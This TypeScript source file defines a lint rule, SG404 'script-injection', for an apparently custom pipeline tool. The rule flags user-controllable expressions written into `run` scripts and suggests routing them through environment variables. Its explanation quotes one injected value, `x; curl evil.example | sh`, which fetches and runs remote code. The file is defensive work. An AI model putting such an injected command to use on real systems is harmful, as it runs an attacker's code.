import type { NameUse } from '../../model/expression/expression-uses.ts';
import type { Pipeline } from '../../model/pipeline.ts';
import { type ExpressionUse, isNamed, namesIn } from '../expression-use.ts';
import type { Finding, Rule } from '../rule.ts';
import { variableFor, variableReference } from '../script-variable.ts';
import { uniqueFindings } from '../unique-findings.ts';

export const scriptInjection: Rule = {
  code: 'SG404',
  name: 'script-injection',
  severity: 'error',
  summary: 'A value that others can choose is written into a script as code.',
  why: [
    'Expressions in `run` are replaced before the shell reads the script, so a value such as `x; curl evil.example | sh` is',
    'run, not used. Outputs, vars, `foreach` items and free params can hold anything. Only values that cannot hold code may',
    'stand in `run`: `run.*`, `interval.*`, `foreach.index`, `needs.*.result`, and params of type `number` or `boolean` or with an',
    '`enum`.',
  ].join(' '),
  fix: 'Pass the value through `env` and let the script read the variable, in quotes. Params, the interval and a `foreach` item are already there as `SEGUE_…` variables.',
  check({ pipeline, expressions }) {
    const inScripts = expressions.filter(({ place }) => place === 'run');
    return uniqueFindings(inScripts.flatMap((use) => judge(pipeline, use)));
  },
};

function judge(pipeline: Pipeline, use: ExpressionUse): readonly Finding[] {
  const name = namesIn(use).find((each) => isOpen(pipeline, use, each));
  if (name === undefined) return [];
  const written = name.path.map(({ text }) => text).join('.');
  return [
    {
      range: use.range(),
      message: `\`${written}\` becomes part of the script of task \`${use.task.id}\`: whoever chooses its value runs commands`,
      help: helpFor(use, name),
    },
  ];
}

/** True if the value can hold code. Names that do not exist are not judged here. */
function isOpen(pipeline: Pipeline, { task }: ExpressionUse, { path, computed }: NameUse): boolean {
  const [top, second, third] = path.map(({ text }) => text.toLowerCase());
  switch (top) {
    case 'vars':
      return true;
    case 'foreach':
      return task.foreach !== undefined && second !== 'index';
    case 'needs':
      return computed || third !== 'result';
    case 'params':
      return second === undefined || isFreeParam(pipeline, second);
    default:
      return false;
  }
}

function isFreeParam(pipeline: Pipeline, folded: string): boolean {
  const declared = Object.entries(pipeline.params).find(([name]) => isNamed(name, folded));
  return declared !== undefined && declared[1].type === 'string' && declared[1].enum === undefined;
}

function helpFor({ body, task }: ExpressionUse, { path }: NameUse): string {
  const parts = path.map(({ text }) => text);
  const { name, isGiven } = variableFor(parts);
  const reference = variableReference(task.shell, name);
  if (isGiven && body.trim() === parts.join('.')) return `Write ${reference} in \`run\` instead.`;
  return `Add \`env: { ${name}: "\${{ ${body.trim()} }}" }\` to the task, and write ${reference} in \`run\`.`;
}
